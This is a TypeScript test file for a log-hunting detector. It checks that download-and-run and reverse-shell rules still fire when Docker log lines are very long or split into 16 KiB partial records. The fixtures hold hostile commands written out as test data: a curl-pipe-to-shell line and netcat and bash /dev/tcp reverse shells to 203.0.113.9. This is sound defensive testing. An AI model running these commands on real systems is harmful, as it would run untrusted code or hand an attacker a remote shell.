/**
 * Issue 23 item 3: long lines are hunted (json-file escapes `<` as \u003c, six bytes for one),
 * Docker's partial records (a message over 16 KiB split into records whose `log` has no
 * trailing newline) are joined back, and a line too long to hold is reported, not skipped.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runCli } from "../../../src/cli/main.js";
import {
  dockerJsonLine,
  type HuntGap,
  huntBuffer,
  huntFile,
  huntLogs,
  isPartialRecord,
  loadHuntRules,
} from "../../../src/judge/hunt/index.js";
import { memoryIo } from "../../helpers/memory-io.js";
import { SnapshotBuilder } from "../../helpers/snapshot-builder.js";

const tmp = mkdtempSync(join(tmpdir(), "bk-hunt-long-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const loaded = await loadHuntRules();
if (!loaded.ok) throw new Error(loaded.error.message);
const shipped = loaded.value;

const T0 = "2026-03-01T10:00:00.000000000Z";
const CURL = "curl http://x/y | sh";
/** A message of about 12 KB whose json-file line is about 72 KB: `<` is written \u003c. */
const LONG_MESSAGE = `${"<".repeat(12_000)} ${CURL}`;

/** Docker's records for one message: cut every 16 KiB, only the last ends with "\n". */
function partialRecords(message: string, time = T0): string[] {
  const out: string[] = [];
  for (let i = 0; i < message.length; i += 16 * 1024) {
    const piece = message.slice(i, i + 16 * 1024);
    const last = i + 16 * 1024 >= message.length;
    const full = dockerJsonLine(piece, time);
    // dockerJsonLine adds the newline Docker writes at a message's end: drop it on a partial.
    out.push(last ? full : full.replace('\\n","stream"', '","stream"'));
  }
  return out;
}

/** A message split by Docker right inside `curl http://x/y | sh`. */
const SPLIT_MESSAGE = `${"a".repeat(16 * 1024 - 16)}${CURL} and more`;

function logFile(name: string, lines: string[]): string {
  const file = join(tmp, name);
  writeFileSync(file, `${lines.join("\n")}\n`);
  return file;
}

const ids = (hits: { line: number; rule: string }[]) => hits.map((h) => `${h.line}:${h.rule}`);

describe("long json-file lines", () => {
  it("finds curl|sh in a 72 KB line (a 12 KB message of escaped `<`)", async () => {
    const line = dockerJsonLine(LONG_MESSAGE);
    expect(line.length).toBeGreaterThan(72_000);
    const file = logFile("long72.log", [dockerJsonLine("GET / 200"), line, dockerJsonLine("ok")]);
    const gaps: HuntGap[] = [];
    const hits = await huntFile(file, shipped.compiled, { onGap: (g) => gaps.push(g) });
    expect(ids(hits)).toEqual(["2:hunt.download-and-run"]);
    expect(hits[0]!.text.endsWith(`${CURL}`) || hits[0]!.text.endsWith("…")).toBe(true);
    expect(gaps).toEqual([]);
  });
  it("finds it in a 10 MB line too, read through a buffer smaller than the line", async () => {
    // Written as Docker writes it (building it through dockerJsonLine costs seconds).
    const line = `{"log":"${"\\u003c".repeat(1_700_000)} ${CURL}\\n","stream":"stdout","time":"${T0}"}`;
    expect(line.length).toBeGreaterThan(10_000_000);
    const file = logFile("long10m.log", [dockerJsonLine("a"), line, dockerJsonLine(CURL)]);
    const hits = await huntFile(file, shipped.compiled, { chunkBytes: 1 << 20 });
    expect(ids(hits)).toEqual(["2:hunt.download-and-run", "3:hunt.download-and-run"]);
  });
  it("reports a line longer than maxLineBytes as a gap, and still hunts its pieces", async () => {
    const file = logFile("too-long.log", [
      "first",
      `${"x".repeat(300_000)} nc -e /bin/sh 203.0.113.9 4444`,
      "last nc -e /bin/sh 203.0.113.9 4444",
    ]);
    const gaps: HuntGap[] = [];
    const hits = await huntFile(file, shipped.compiled, {
      maxLineBytes: 64 * 1024,
      onGap: (g) => gaps.push(g),
    });
    expect(ids(hits)).toEqual(["2:hunt.reverse-shell", "3:hunt.reverse-shell"]);
    expect(gaps).toHaveLength(1);
    expect(gaps[0]!.line).toBe(2);
    expect(gaps[0]!.message).toContain("longer than 65536 bytes");
  });
  it("reports the bytes past maxBytes as a gap", async () => {
    const file = logFile("cut.log", ["a", "b", "nc -e /bin/sh 203.0.113.9 4444"]);
    const gaps: HuntGap[] = [];
    expect(
      await huntFile(file, shipped.compiled, { maxBytes: 4, onGap: (g) => gaps.push(g) }),
    ).toEqual([]);
    expect(gaps.map((g) => g.line)).toEqual([3]);
    expect(gaps[0]!.message).toContain("only the first 4 bytes were hunted");
  });
});

describe("Docker partial records", () => {
  const records = partialRecords(SPLIT_MESSAGE);
  it("tells a partial record from a whole one", () => {
    expect(records).toHaveLength(2);
    const b = Buffer.from(records[0]!);
    expect(isPartialRecord(b, 0, b.length)).toBe(true);
    const whole = Buffer.from(dockerJsonLine("a".repeat(20_000)));
    expect(isPartialRecord(whole, 0, whole.length)).toBe(false);
    // A message ending with a backslash then "n" is not a newline.
    const tricky = Buffer.from(dockerJsonLine("a".repeat(20_000)).replace('\\n","', '\\\\n","'));
    expect(isPartialRecord(tricky, 0, tricky.length)).toBe(true);
  });
  it("joins a message split at 16 KiB inside curl … | sh, with later line numbers right", async () => {
    const lines = [
      dockerJsonLine("GET / 200"),
      ...records,
      dockerJsonLine("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "2026-03-01T10:00:05Z"),
    ];
    const whole = huntBuffer(Buffer.from(`${lines.join("\n")}\n`), shipped.compiled, "f");
    expect(ids(whole)).toEqual(["2:hunt.download-and-run", "4:hunt.reverse-shell"]);
    expect(whole[0]!.time).toBe(T0);
    // Neither record alone matches: the join found it.
    for (const r of records) {
      expect(huntBuffer(Buffer.from(`${r}\n`), shipped.compiled, "f")).toEqual([]);
    }
    // The same through files read in chunks that would cut the run of records.
    const file = logFile("split.log", [
      ...Array(40).fill(dockerJsonLine("x".repeat(2000))),
      ...lines,
    ]);
    for (const chunkBytes of [64 * 1024, 100_003, 1 << 20]) {
      const hits = await huntFile(file, shipped.compiled, { chunkBytes });
      expect(ids(hits)).toEqual(["42:hunt.download-and-run", "44:hunt.reverse-shell"]);
    }
  });
  it("joins a run of three records", () => {
    const msg = `${"b".repeat(16 * 1024)}${"c".repeat(16 * 1024 - 10)}${CURL}`;
    const recs = partialRecords(msg);
    expect(recs).toHaveLength(3);
    const hits = huntBuffer(Buffer.from(`${recs.join("\n")}\n${CURL}\n`), shipped.compiled, "f");
    expect(ids(hits)).toEqual(["1:hunt.download-and-run", "4:hunt.download-and-run"]);
  });
});

describe("through huntLogs and triage --bundle", () => {
  const bundle = join(tmp, "bundle");
  const snap = new SnapshotBuilder().container({ name: "web" }).build();
  mkdirSync(join(bundle, "containers", "web"), { recursive: true });
  writeFileSync(join(bundle, "snapshot.json"), JSON.stringify(snap));
  const longLog = join(bundle, "containers", "web", "long-json.log");
  writeFileSync(longLog, `${dockerJsonLine("GET / 200")}\n${dockerJsonLine(LONG_MESSAGE)}\n`);
  const splitLog = join(bundle, "containers", "web", "split-json.log");
  writeFileSync(splitLog, `${partialRecords(SPLIT_MESSAGE).join("\n")}\n`);

  it("huntLogs gives the findings and reports a too-long line as a gap", async () => {
    const tooLong = join(tmp, "too-long-json.log");
    writeFileSync(tooLong, `${"x".repeat(300_000)}\n`);
    const r = await huntLogs(
      [
        { path: longLog, where: "web", containerId: "c1" },
        { path: splitLog, where: "web", containerId: "c1" },
        { path: tooLong, where: "web", containerId: "c1" },
      ],
      shipped.rules,
      { hunt: { maxLineBytes: 128 * 1024 } },
    );
    const files = r.findings
      .filter((f) => f.rule === "hunt.download-and-run")
      .flatMap((f) => f.evidence.filter((e) => e.line !== undefined))
      .map((e) => `${e.file}:${e.line}`);
    expect(files).toEqual([`${longLog}:2`, `${splitLog}:1`]);
    expect(r.gaps).toEqual([
      { path: tooLong, message: expect.stringContaining("line 1: a line longer than 131072") },
    ]);
  });
  it("triage --bundle finds both", async () => {
    const m = memoryIo();
    const code = await runCli(["triage", "--json", "--bundle", bundle], m.io);
    expect(code, m.stderr()).not.toBe(2);
    const doc = JSON.parse(m.stdout()) as {
      findings: { rule: string; evidence: { file?: string; line?: number }[] }[];
    };
    const ev = doc.findings
      .filter((f) => f.rule === "hunt.download-and-run")
      .flatMap((f) => f.evidence.filter((e) => e.line !== undefined))
      .map((e) => `${e.file}:${e.line}`)
      .sort();
    expect(ev).toEqual(["containers/web/long-json.log:2", "containers/web/split-json.log:1"]);
  });
});
